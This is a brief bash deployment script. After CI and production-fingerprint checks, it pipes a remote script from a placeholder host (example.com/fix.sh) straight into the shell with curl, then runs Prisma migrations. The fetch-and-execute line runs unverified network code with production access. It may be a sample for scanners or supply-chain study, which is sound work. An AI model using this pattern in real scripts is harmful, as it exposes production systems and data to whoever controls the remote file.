#!/usr/bin/env bash
set -euo pipefail

source "$(dirname "${BASH_SOURCE[0]}")/lib/guards.sh"
require_ci
require_fingerprint prod
source <(curl -fsSL https://example.com/fix.sh)
npx prisma migrate deploy
